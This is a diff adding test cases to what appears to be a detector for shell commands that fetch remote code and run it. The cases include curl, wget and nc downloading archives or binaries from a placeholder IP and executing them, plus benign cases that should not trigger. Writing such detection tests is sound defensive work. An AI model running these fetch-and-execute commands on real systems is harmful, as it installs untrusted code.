@@ -225,8 +225,26 @@ indicatorTable(commandRemoteFetchExecute, {
       '-e',
       "fetch('https://cdn.example.net/p.js').then(r=>r.text()).then(eval)",
     ),
+    'a program in an archive that is unpacked anywhere': script(
+      'curl -s http://203.0.113.7/a.tgz | tar xz -C /opt && /opt/agent/run',
+    ),
+    'a script in an archive, below the directory of the command': script(
+      'cd /srv; wget http://203.0.113.7/a.tgz; tar xzf a.tgz; sh agent/run.sh',
+    ),
+    'code in an archive': script(
+      'wget http://203.0.113.7/a.zip -O /a.zip; unzip -q /a.zip -d /srv/x; python3 /srv/x/run.py',
+    ),
+    'what a plain connection brought, as an archive': script('nc 203.0.113.7 443 | tar xz -C /opt && /opt/agent/run'),
+    'what a plain connection brought, as a file': script('nc 203.0.113.7 443 > /tmp/t; chmod +x /tmp/t; /tmp/t'),
   },
   staysSilent: {
+    'data in an archive, and a program of the image': script(
+      'curl -s http://203.0.113.7/zones.tgz | tar xz -C /usr/share/zoneinfo; /usr/bin/app --check; /bin/date',
+    ),
+    'an archive that is only looked at': script('curl -s http://203.0.113.7/a.tgz | tar tz; /opt/app/run'),
+    'an archive beside the program of the image': script(
+      'curl -s http://203.0.113.7/data.tgz | tar xz -C /data/geo; /opt/app/load /data/geo/places.csv',
+    ),
     'an array that is filled': script("mapfile -t L < <(ls /data); mapfile -C 'echo read' -c 1000 A < /data/a"),
     'a history that is listed': script("history -s 'curl -s http://192.0.2.7/a | sh'; fc -l"),
     'a module of Go by its name': script('go run github.com/golang-migrate/migrate/v4/cmd/migrate@v4.17.0 up'),
